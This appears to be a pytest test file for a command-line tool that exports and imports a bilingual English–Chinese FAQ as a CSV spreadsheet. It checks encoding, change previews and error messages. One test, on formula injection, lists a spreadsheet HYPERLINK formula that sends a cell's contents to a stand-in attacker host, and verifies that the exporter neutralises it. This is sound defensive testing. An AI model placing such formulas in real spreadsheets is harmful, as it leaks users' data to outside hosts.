"""`qicc faq export` / `qicc faq import`: a spreadsheet round trip that keeps every field and byte."""

from __future__ import annotations

import csv
import io
import shutil

import pytest

from bot.cli import main
from bot.faq.content import build_faq
from bot.faq.spreadsheet import read_csv, to_csv
from bot.settings import ROOT
from bot.content.yamlfile import ContentError, read_yaml


@pytest.fixture
def data_dir(tmp_path, monkeypatch):
    folder = tmp_path / "data"
    folder.mkdir()
    shutil.copy(ROOT / "data" / "faq.yml", folder / "faq.yml")
    monkeypatch.setenv("QICC_DATA_DIR", str(folder))
    return folder


def edit_sheet(path, change):
    """Edit rows as a spreadsheet program would: read every cell, change some, save as CSV UTF-8."""
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    rows = change(rows)
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8-sig", newline="")


def load(path):
    return build_faq(read_yaml(path), str(path))


def test_export_is_utf8_that_excel_recognises_and_keeps_chinese_bytes(data_dir, tmp_path):
    sheet = tmp_path / "faq.csv"
    assert main(["faq", "export", str(sheet)]) == 0
    raw = sheet.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte order mark Excel needs to read UTF-8
    faq = load(data_dir / "faq.yml")
    for entry in faq.entries:
        assert entry.answer["zh"].encode("utf-8") in raw.replace(b'""', b'"')


def test_round_trip_keeps_every_field(data_dir, tmp_path):
    sheet = tmp_path / "faq.csv"
    main(["faq", "export", str(sheet)])
    original = load(data_dir / "faq.yml")
    assert any(e.tags for e in original.entries) and any(e.links for e in original.entries)
    assert any(e.reviewed for e in original.entries)
    assert read_csv(sheet, original.replies) == original
    assert main(["faq", "import", str(sheet), "--yes"]) == 0  # nothing changed: nothing written
    assert load(data_dir / "faq.yml") == original


def test_import_shows_the_changes_then_writes_a_file_that_round_trips_byte_for_byte(data_dir, tmp_path, capsys):
    before = load(data_dir / "faq.yml")
    first, second = before.entries[0], before.entries[1]
    sheet = tmp_path / "faq.csv"
    main(["faq", "export", str(sheet)])
    new_answer = "新的回答：请致电 {phone}。“引号”，逗号, 以及\n换行"

    def change(rows):
        header = rows[0]
        rows = [row for row in rows if row[0] != second.id]
        rows[1][header.index("answer_zh")] = new_answer
        kayak = {
            "id": "kayak",
            "questions_en": "Where can I rent a kayak?\nkayak rental",
            "questions_zh": "哪里可以租皮划艇？\n租皮划艇",
            "answer_en": "Ask at the beach.",
            "answer_zh": "请在海滩询问。",
            "tags": "sport",
            "links": "",
            "reviewed": "2025-02-01",
        }
        return [*rows, [kayak[column] for column in header]]

    edit_sheet(sheet, change)
    capsys.readouterr()

    assert main(["faq", "import", str(sheet), "--dry-run"]) == 0
    shown = capsys.readouterr().out
    assert "add     kayak" in shown and f"change  {first.id} (answer)" in shown and f"remove  {second.id}" in shown
    assert load(data_dir / "faq.yml") == before  # a dry run writes nothing

    assert main(["faq", "import", str(sheet), "--yes"]) == 0
    after = load(data_dir / "faq.yml")
    assert after.get(first.id).answer["zh"] == new_answer
    assert after.get("kayak").questions == {
        "en": ("Where can I rent a kayak?", "kayak rental"),
        "zh": ("哪里可以租皮划艇？", "租皮划艇"),
    }
    assert after.get(second.id) is None
    written = (data_dir / "faq.yml").read_text(encoding="utf-8")
    assert written.startswith((ROOT / "data" / "faq.yml").read_text(encoding="utf-8").split("\nfaq:")[0])

    again = tmp_path / "again.csv"
    main(["faq", "export", str(again)])
    assert again.read_bytes() == sheet.read_bytes()
    assert again.read_bytes() == ("\ufeff" + to_csv(after)).encode("utf-8")


def test_a_bad_row_is_named_and_nothing_is_written(data_dir, tmp_path, capsys):
    sheet = tmp_path / "faq.csv"
    main(["faq", "export", str(sheet)])
    before = (data_dir / "faq.yml").read_bytes()
    first_id = load(data_dir / "faq.yml").entries[0].id

    def duplicate_id(rows):
        rows[2][0] = first_id
        return rows

    edit_sheet(sheet, duplicate_id)
    capsys.readouterr()
    assert main(["faq", "import", str(sheet), "--yes"]) == 1
    out = capsys.readouterr().out
    assert f"{sheet} row 3: the id '{first_id}' is already used on line 2" in out
    assert (data_dir / "faq.yml").read_bytes() == before


def test_a_sheet_saved_in_another_encoding_gets_a_clear_message(data_dir, tmp_path):
    sheet = tmp_path / "faq.csv"
    sheet.write_bytes("id,questions_en\r\nwater,自来水能直接喝吗？\r\n".encode("gbk"))
    with pytest.raises(ContentError, match="CSV UTF-8"):
        read_csv(sheet, {})


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+1+1", "-2+3", "@SUM(A1:A2)"]


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_read_back(data_dir, tmp_path):
    faq = load(data_dir / "faq.yml")
    entry = faq.entries[0]
    poisoned = faq.__class__(
        **{
            **faq.__dict__,
            "entries": tuple(
                e.__class__(**{**e.__dict__, "answer": {"en": FORMULAS[i % 4], "zh": e.answer["zh"]}})
                if e is entry or i < 4
                else e
                for i, e in enumerate(faq.entries)
            ),
        }
    )
    sheet = tmp_path / "faq.csv"
    sheet.write_text(to_csv(poisoned), encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert read_csv(sheet, faq.replies) == poisoned


@pytest.mark.parametrize("damage", ["nul", "huge"])
def test_a_nul_byte_or_a_huge_cell_is_reported_with_its_row(data_dir, tmp_path, damage):
    sheet = tmp_path / "faq.csv"
    main(["faq", "export", str(sheet)])
    with sheet.open(encoding="utf-8-sig", newline="") as file:
        lines = file.read().split("\r\n")
    bad = "\x00" if damage == "nul" else "x" * (csv.field_size_limit() + 1)
    lines[1] = lines[1].replace(",", f",{bad}", 1) if damage == "nul" else lines[1] + f',"{bad}"'
    sheet.write_text("\r\n".join(lines), encoding="utf-8-sig", newline="")
    with pytest.raises(ContentError) as caught:
        read_csv(sheet, load(data_dir / "faq.yml").replies)
    (problem,) = caught.value.problems
    assert problem.line is not None and problem.line >= 2 and "cannot be read as CSV" in problem.message
